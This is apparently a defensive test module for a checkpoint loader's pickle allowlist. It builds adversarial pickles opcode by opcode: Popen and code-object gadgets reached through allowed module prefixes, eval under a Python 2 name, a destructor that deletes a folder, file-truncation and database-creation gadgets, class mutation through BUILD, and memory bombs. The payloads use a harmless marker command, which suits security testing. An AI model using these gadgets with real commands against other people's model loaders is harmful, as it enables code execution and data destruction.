"""Adversarial cases for the globals policy (:mod:`ckptool.model.allowlist`): names rated by the module they start in
rather than the object they reach, classes mutated by BUILD, allowed constructors asked for huge allocations, and
Python 2 names.

Each pickle is assembled opcode by opcode (no ``pickle.dumps`` of real objects: the names must be the dotted paths
an attacker writes, which a pickler would not produce). Where the gadget can run the marker command itself, the
case carries it (``Popen(["sh", "-c", 'touch "$CKPTOOL_MARKER"'])``, a function built from a code object) and has
a ``loader``; the others (a file opened for writing, a database, a semaphore, a folder deleted by a destructor, a
mutated class, a memory bomb) act on paths inside the case's own folder or on the loading process only, so they
have no loader here: ``tests/test_allowlist_resolve.py`` shows each one live under ``pickle.load``.

Nothing here imports torch or ckptool at import time.
"""

from __future__ import annotations

import struct
import sys
from collections.abc import Callable
from pathlib import Path

import hostile_corpus as hc
from adversarial import MARKER_COMMAND, Case

PICKLE_LOADER = "import pickle; pickle.load(open(PATH, 'rb'))"
TORCH_LOADER = "import torch; torch.load(PATH, weights_only=False)"
#: the size of the memory-bomb cases: over ckptool's 256 MiB limit per call, small enough for a shared test machine
#: (the issue's file asked for 1.5e9 bytes)
BOMB_BYTES = 300_000_000


# ------------------------------------------------------------------------------------------------ pickle assembly
def _str(s: str) -> bytes:
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def obj(v: object) -> bytes:
    """Opcodes that push the plain value ``v`` (None, bool, int, str, bytes, tuple, list, dict), no memo: protocol-2
    opcodes (which torch's weights_only unpickler reads too), except BINBYTES for ``bytes`` (protocol 3)."""
    if v is None:
        return b"N"
    if isinstance(v, bool):
        return b"\x88" if v else b"\x89"
    if isinstance(v, int):
        if -(2 ** 31) <= v < 2 ** 31:
            return b"J" + struct.pack("<i", v)
        raw = v.to_bytes((v.bit_length() + 8) // 8, "little", signed=True)
        return b"\x8a" + bytes([len(raw)]) + raw
    if isinstance(v, str):
        return _str(v)
    if isinstance(v, bytes):
        return b"B" + struct.pack("<I", len(v)) + v
    if isinstance(v, tuple):
        return b"(" + b"".join(obj(x) for x in v) + b"t"
    if isinstance(v, list):
        return b"(" + b"".join(obj(x) for x in v) + b"l"
    if isinstance(v, dict):
        return b"}(" + b"".join(obj(k) + obj(x) for k, x in v.items()) + b"u"
    raise TypeError(type(v))


def glob(module: str, qualname: str) -> bytes:
    """GLOBAL ``module`` ``qualname``: in a pickle of protocol 4 or more (:func:`pickle4`) ``pickle`` walks the dots
    of ``qualname`` attribute by attribute."""
    return b"c" + module.encode() + b"\n" + qualname.encode() + b"\n"


def call(func: bytes, *args: object, raw_args: bytes = b"") -> bytes:
    """``func(*args)`` (REDUCE); ``raw_args`` are opcodes of further arguments, pushed after ``args``."""
    return func + b"(" + b"".join(obj(a) for a in args) + raw_args + b"tR"


def pickle4(body: bytes) -> bytes:
    """A protocol-4 pickle of ``body`` (the value left on the stack): dotted names are walked."""
    return b"\x80\x04" + body + b"."


def pickle2(body: bytes) -> bytes:
    """A protocol-2 pickle of ``body``, as ``torch.save`` writes (torch's weights_only unpickler reads it)."""
    return b"\x80\x02" + body + b"."


def _code_args(source: str) -> tuple[object, ...]:
    """The ``types.CodeType`` constructor arguments of ``source`` compiled for the running Python (3.10: 16
    arguments; 3.11 and later: 18, with ``qualname`` and ``exceptiontable``)."""
    c = compile(source, "<ckptool-adversarial>", "exec")
    head = (c.co_argcount, c.co_posonlyargcount, c.co_kwonlyargcount, c.co_nlocals, c.co_stacksize, c.co_flags,
            c.co_code, c.co_consts, c.co_names, c.co_varnames, c.co_filename, c.co_name)
    if sys.version_info >= (3, 11):
        return (*head, c.co_qualname, c.co_firstlineno, c.co_linetable, c.co_exceptiontable, c.co_freevars,
                c.co_cellvars)
    return (*head, c.co_firstlineno, c.co_linetable, c.co_freevars, c.co_cellvars)


# ------------------------------------------------------------------------------------------------ the gadgets
def cpp_extension_popen() -> bytes:
    """``torch.utils.cpp_extension`` + ``subprocess.Popen`` (module attribute ``subprocess``), running the marker."""
    return pickle4(call(glob("torch.utils.cpp_extension", "subprocess.Popen"), ["sh", "-c", MARKER_COMMAND]))


def lr_scheduler_code() -> bytes:
    """``torch.optim.lr_scheduler`` + ``types.CodeType`` and ``types.FunctionType``: builds a function from a
    code object and calls it; the function runs the marker command."""
    code = call(glob("torch.optim.lr_scheduler", "types.CodeType"),
                *_code_args(f"__import__('os').system({MARKER_COMMAND!r})"))
    func = call(glob("torch.optim.lr_scheduler", "types.FunctionType"), raw_args=code + obj({}))
    return pickle4(func + b")R")


def pyio_fileio(target: Path) -> bytes:
    """``_pyio.FileIO(target, 'w')``: creates (or truncates) ``target``."""
    return pickle2(call(glob("_pyio", "FileIO"), str(target), "w"))


def sqlite_connection(target: Path) -> bytes:
    """``_sqlite3.Connection(target)`` (what ``sqlite3.connect`` builds): creates the database file ``target``."""
    return pickle2(call(glob("_sqlite3", "Connection"), str(target)))


def semlock() -> bytes:
    """``_multiprocessing.SemLock(kind, value, maxvalue, name, unlink=True)``: creates a named semaphore (unlinked
    at once, so nothing outlives the loader)."""
    return pickle2(call(glob("_multiprocessing", "SemLock"), 1, 1, 1, "/ckptool-adversarial-allow", True))


def numpy_datasource(victim: Path) -> bytes:
    """A ``numpy.lib._datasource.DataSource`` made without its constructor (NEWOBJ) whose state says its
    destination is a temporary folder: its destructor runs ``shutil.rmtree(victim)``."""
    state = {"_istmpdest": True, "_destpath": str(victim)}
    return pickle2(glob("numpy.lib._datasource", "DataSource") + b")\x81" + obj(state) + b"b")


def class_build(module: str, name: str) -> bytes:
    """GLOBAL ``module.name`` (an allowed or needs-trust class), then BUILD with a ``(None, slotstate)`` state:
    ``pickle`` runs ``setattr(cls, 'ckptool_marker', 1)`` on the class itself."""
    return pickle2(glob(module, name) + obj((None, {"ckptool_marker": 1})) + b"b")


def bytearray_bomb(n: int = BOMB_BYTES) -> bytes:
    """``builtins.bytearray(n)`` (an allowed constructor): fills ``n`` zero bytes when loaded."""
    return pickle2(call(glob("builtins", "bytearray"), n))


def storage_bomb(n: int = BOMB_BYTES // 4) -> bytes:
    """``torch.FloatStorage(n)`` (an allowed storage class called with a size): allocates ``4 * n`` bytes."""
    return pickle2(call(glob("torch", "FloatStorage"), n))


def py2_eval() -> bytes:
    """A protocol-2 pickle of ``__builtin__.eval`` (``pickle`` maps it to ``builtins.eval``) running the marker."""
    arg = f"__import__('os').system({MARKER_COMMAND!r})"
    return hc.gadget_pickle("__builtin__", "eval", arg, 2)


# ------------------------------------------------------------------------------------------------ the cases
def _file(name: str, make_bytes: Callable[[Path], bytes]) -> Callable[[Path], Path]:
    """``make`` of a case whose input is the file ``name`` holding ``make_bytes(folder)``."""
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(make_bytes(folder))
        return path
    return make


def _zip(name: str, pkl: Callable[[], bytes]) -> Callable[[Path], Path]:
    """``make`` of a case whose input is a torch zip ``name`` whose ``data.pkl`` is ``pkl()``."""
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(hc.torch_zip(pkl()))
        return path
    return make


def _victim(folder: Path) -> bytes:
    victim = folder / "victim"
    victim.mkdir(exist_ok=True)
    (victim / "keep.txt").write_text("deleted by DataSource.__del__ if the pickle runs\n")
    return numpy_datasource(victim)


_DOTTED = "names rated by their module prefix"
_BUILD = "class mutation via BUILD"
_SIZE = "allowed constructor with a huge size"

CASES: list[Case] = [
    Case("allow-cpp-extension-subprocess-popen", _DOTTED, _file("popen.pkl", lambda _f: cpp_extension_popen()),
         loader=PICKLE_LOADER),
    Case("allow-cpp-extension-subprocess-popen-zip", _DOTTED, _zip("popen.pt", cpp_extension_popen),
         loader=TORCH_LOADER),
    Case("allow-lr-scheduler-types-codetype", _DOTTED, _file("code.pkl", lambda _f: lr_scheduler_code()),
         loader=PICKLE_LOADER),
    Case("allow-lr-scheduler-types-codetype-zip", _DOTTED, _zip("code.pt", lr_scheduler_code), loader=TORCH_LOADER),
    Case("allow-pyio-fileio", _DOTTED, _file("fileio.pkl", lambda f: pyio_fileio(f / "fileio-created"))),
    Case("allow-sqlite3-connection", _DOTTED, _file("sqlite.pkl", lambda f: sqlite_connection(f / "created.db"))),
    Case("allow-multiprocessing-semlock", _DOTTED, _file("semlock.pkl", lambda _f: semlock())),
    Case("allow-numpy-datasource", _DOTTED, _file("datasource.pkl", _victim)),
    Case("allow-class-build-counter", _BUILD, _file("counter.pkl", lambda _f: class_build("collections", "Counter"))),
    Case("allow-class-build-purepath", _BUILD, _file("purepath.pkl", lambda _f: class_build("pathlib", "PurePath"))),
    Case("allow-bytearray-bomb", _SIZE, _file("bytearray.pkl", lambda _f: bytearray_bomb())),
    Case("allow-bytearray-bomb-zip", _SIZE, _zip("bytearray.pt", bytearray_bomb)),
    Case("allow-storage-bomb", _SIZE, _file("storage.pkl", lambda _f: storage_bomb())),
    Case("allow-py2-builtin-eval", "python 2 name of a gadget", _file("eval-p2.pkl", lambda _f: py2_eval()),
         loader=PICKLE_LOADER),
]
